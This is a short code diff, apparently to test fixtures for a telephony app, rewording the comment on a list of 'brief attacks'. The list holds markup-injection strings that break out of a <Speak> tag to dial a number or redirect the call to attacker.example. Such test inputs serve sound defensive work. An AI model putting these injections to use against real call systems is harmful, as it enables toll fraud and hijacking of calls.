@@ -1,4 +1,4 @@
-/** What a caller, or the person who transfers a call, wants the teammate to hear. */
+/** Texts that a caller, or the person who transfers a call, tries to have played to the teammate. */
 export const briefAttacks: readonly string[] = [
   '</Speak><Dial><Number>+19005550199</Number></Dial><Speak>',
   '</Speak><Redirect>https://attacker.example/answer</Redirect><Speak>',
